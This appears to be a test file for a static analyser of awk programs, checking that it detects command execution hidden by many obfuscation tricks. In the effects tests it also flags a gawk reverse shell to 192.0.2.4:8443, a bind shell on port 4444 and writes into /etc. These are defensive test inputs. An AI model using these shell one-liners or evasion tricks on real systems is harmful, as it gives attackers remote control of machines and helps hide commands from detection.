import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { effectLines, readingOf } from '../../../testing/reading-of.ts';
import type { Reading, ReadingInput } from '../../language.ts';
import { known, render } from '../../value.ts';
import { awk } from './awk.ts';
import { parseAwk } from './parse.ts';

function read(text: string, more: Partial<ReadingInput> = {}): Reading {
  return readingOf(awk, 'awk', text, { args: [known('awk')], cwd: '/', ...more });
}

/** Lines that a shell is handed, programs started with a list, and text piped to shells. */
function started(text: string, more: Partial<ReadingInput> = {}): string[] {
  const reading = read(text, more);
  const own = reading.commands.map(({ argv }) => {
    const words = argv.map(render);
    return words[0] === 'sh' && words[1] === '-c' ? (words[2] ?? '') : words.join(' ');
  });
  return [...own, ...reading.nested.filter((each) => each.how === 'pipe').map((each) => each.text.trim())];
}

describe('what it starts', () => {
  const cases: readonly (readonly [title: string, code: string])[] = [
    ['system', 'BEGIN { system("id") }'],
    ['system at the end', 'END { system("id") }'],
    ['a rule', '/x/ { system("id") }'],
    ['a rule without a pattern', '{ system("id") }'],
    ['a pattern that acts', 'system("id")'],
    ['a range', '/a/, /b/ { system("id") }'],
    ['getline', 'BEGIN { "id" | getline x }'],
    ['getline in a loop', 'BEGIN { while (("id" | getline x) > 0) print x }'],
    ['print to a shell', 'BEGIN { print "id" | "sh" }'],
    ['printf to a shell', 'BEGIN { printf "%s%c", "i", 100 | "/bin/bash" }'],
    ['print to a command', 'BEGIN { print "x" | "id" }'],
    ['a coprocess', 'BEGIN { print "x" |& "id" }'],
    ['a function', 'function f(c) { system(c) } BEGIN { f("id") }'],
    ['a function nobody calls', 'function f() { system("id") }'],
    ['a function by its name', 'BEGIN { f = "system"; @f("id") }'],
    ['joined', 'BEGIN { c = "i" "d"; system(c) }'],
    ['joined with a variable nobody set', 'BEGIN { c = c "i"; c = c "d"; system(c) }'],
    ['sprintf', 'BEGIN { system(sprintf("%c%c", 105, 100)) }'],
    ['octal escapes', 'BEGIN { system("\\151\\144") }'],
    ['hexadecimal escapes', 'BEGIN { system("\\x69\\x64") }'],
    ['substr', 'BEGIN { system(substr("xidx", 2, 2)) }'],
    ['tolower', 'BEGIN { system(tolower("ID")) }'],
    ['gsub', 'BEGIN { c = "i%d"; gsub(/%/, "", c); system(c) }'],
    ['gsub with what matched', 'BEGIN { c = "d"; sub(/d/, "i&", c); system(c) }'],
    ['gensub', 'BEGIN { system(gensub(/(d)(i)/, "\\\\2\\\\1", "g", "di")) }'],
    [
      'split and a loop',
      'BEGIN { n = split("105 100", a); for (i = 1; i <= n; i++) c = c sprintf("%c", a[i]); system(c) }',
    ],
    ['backwards', 'BEGIN { t = "di"; for (i = length(t); i > 0; i--) c = c substr(t, i, 1); system(c) }'],
    ['a table', 'BEGIN { m["a"] = "i"; m["b"] = "d"; system(m["a"] m["b"]) }'],
    ['several keys', 'BEGIN { m[1, 2] = "id"; system(m[1, 2]) }'],
    ['a choice', 'BEGIN { system(x ? "ls" : "id") }'],
    ['a condition', 'BEGIN { if (x) system("ls"); else system("id") }'],
    ['switch', 'BEGIN { switch (x) { case 1: system("ls"); break; default: system("id") } }'],
    ['do', 'BEGIN { do { system("id"); break } while (1) }'],
    ['after next', '{ next } END { system("id") }'],
    ['lines without semicolons', 'BEGIN {\n  x = "i"\n  y = "d"\n  system(x y)\n}'],
    ['a comment and a broken line', '# system("no")\nBEGIN { system("i" \\\n "d") }'],
    ['a pattern with a slash in a class', '$0 ~ /[/"]/ { system("id") }'],
    ['division', 'BEGIN { x = 10 / 2; y = 4 / 2; system("id") }'],
    ['nonsense before', 'BEGIN { x = = 2; }\nBEGIN { system("id") }'],
    ['-v', 'BEGIN { system(cmd) }'],
    ['the environment', 'BEGIN { system(ENVIRON["CMD"]) }'],
    ['an argument', 'BEGIN { system(ARGV[1]) }'],
    ['lines of a file', '{ system($0) }'],
    ['a word of a line', '{ system($1) }'],
    ['a file read by name', 'BEGIN { while ((getline l < "/c") > 0) system(l) }'],
  ];
  test.each(cases)('%s', (title, code) => {
    const args = title.includes('of a') ? ['awk', '/c'] : ['awk', '-vcmd=i\\x64', 'id'];
    const more = {
      args: args.map(known),
      env: new Map([['CMD', known('id')]]),
      readFile: (path: string) => (path === '/c' ? 'id\n' : undefined),
    };
    expect(started(code, more)).toContain('id');
  });

  test('what only prints starts nothing', () => {
    expect(
      started('BEGIN { FS = ":" } $3 > 1000 && !/nologin/ { print $1, $3 > "/dev/stderr" } END { print NR }'),
    ).toEqual([]);
    expect(started('BEGIN { print "system(\\"id\\")" }')).toEqual([]);
  });
});

describe('effects', () => {
  const connects = 'connect to={host=192.0.2.4 port=8443 protocol=tcp}';
  const cases: readonly (readonly [code: string, effects: readonly string[]])[] = [
    [
      'BEGIN { s = "/inet/tcp/0/192.0.2.4/8443"; while (42) { do { printf "> " |& s; s |& getline c; if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } } while (c != "exit") close(s) } }',
      [`${connects} shell={program=sh how=runs what it receives}`],
    ],
    [
      'BEGIN { while (("/inet/tcp/4444/0/0" |& getline c) > 0) system(c) }',
      ['listen at={host=0.0.0.0 port=4444 protocol=tcp} shell={program=sh how=runs what it receives}'],
    ],
    ['BEGIN { s = "/inet/tcp/0/192.0.2.4/8443"; print "GET /" |& s; s |& getline x; print x }', [connects]],
    [
      'BEGIN { h = "192.0.2.4"; print "x" |& ("/inet/udp/0/" h "/53") }',
      ['connect to={host=192.0.2.4 port=53 protocol=udp}'],
    ],
    ['BEGIN { print "a" > "/etc/x"; print "b" > "/etc/x" }', ['write path=/etc/x content=a\nb\n']],
    ['BEGIN { print("a", "b") >> "/etc/x" }', ['append path=/etc/x content=a b\n']],
    ['BEGIN { OFS = "-"; print "a", "b" > "/etc/" "x" }', ['write path=/etc/x content=a-b\n']],
  ];
  test.each(cases)('%s', (code, expected) => {
    expect(effectLines(read(code))).toEqual(expected);
  });
});

describe('bounds', () => {
  test('nonsense gives no error', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (noise) => {
        expect(Array.isArray(read(noise).commands)).toBe(true);
      }),
      { numRuns: 200 },
    );
  });

  test.each([
    ['parentheses', `BEGIN { ${'('.repeat(50_000)}`],
    ['braces', '{'.repeat(50_000)],
    ['fields', `{ ${'$'.repeat(50_000)}`],
    ['choices', `BEGIN { x = ${'1?'.repeat(50_000)}`],
    ['prints', `BEGIN { ${'print ('.repeat(20_000)}`],
    ['patterns', '/a'.repeat(50_000)],
    ['what begins no statement', 'BEGIN { x = [i]\n); y(\n) }'],
    ['conditions', `{ ${'if (x) '.repeat(20_000)}`],
  ])('deep or endless: %s', (_title, code) => {
    const before = performance.now();
    read(code);
    expect(performance.now() - before).toBeLessThan(3_000);
  });

  test('unparsed statements are counted', () => {
    expect(parseAwk('BEGIN { x = 1; print x }').unparsed).toBe(0);
    expect(parseAwk('BEGIN { x = 1 ) 2; print x }').unparsed).toBeGreaterThan(0);
  });
});
